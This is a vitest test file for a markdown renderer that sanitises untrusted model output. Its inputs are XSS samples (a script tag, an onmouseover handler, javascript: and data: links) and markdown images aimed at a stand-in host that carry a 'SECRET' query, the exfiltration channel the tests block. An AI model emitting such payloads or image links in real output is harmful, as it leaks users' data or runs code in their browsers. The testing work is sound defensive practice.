// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

describe('renderMarkdown (untrusted model output)', () => {
  it('renders Markdown', () => {
    const html = renderMarkdown('**3** items left\n\n- a\n- b\n\n`code`');
    expect(html).toContain('<strong>3</strong>');
    expect(html).toContain('<li>a</li>');
    expect(html).toContain('<code>code</code>');
  });

  it('strips scripts, event handlers and javascript: links', () => {
    const html = renderMarkdown(
      '<script>alert(1)</script><b onmouseover="x()">hi</b> <iframe src="https://e.example"></iframe>',
    );
    expect(html).not.toMatch(/script|onmouseover|iframe/i);
    expect(html).toContain('<b>hi</b>');
    const link = renderMarkdown('Click [here](javascript:alert(1)) or [there](data:text/html,x)');
    expect(link).not.toMatch(/href|javascript:|data:/i);
    expect(link).toContain('here');
  });

  it('never loads images (an exfiltration channel) and opens links in a new tab', () => {
    const html = renderMarkdown(
      '![secret](https://evil.example/x?d=SECRET) <img src="https://evil.example/y"> [site](https://ok.example)',
    );
    expect(html).not.toContain('<img');
    expect(html).toContain('[image: secret]');
    const doc = new DOMParser().parseFromString(html, 'text/html');
    const site = [...doc.querySelectorAll('a')].find((a) => a.textContent === 'site');
    expect(site?.getAttribute('target')).toBe('_blank');
    expect(site?.getAttribute('rel')).toBe('noopener noreferrer');
  });
});
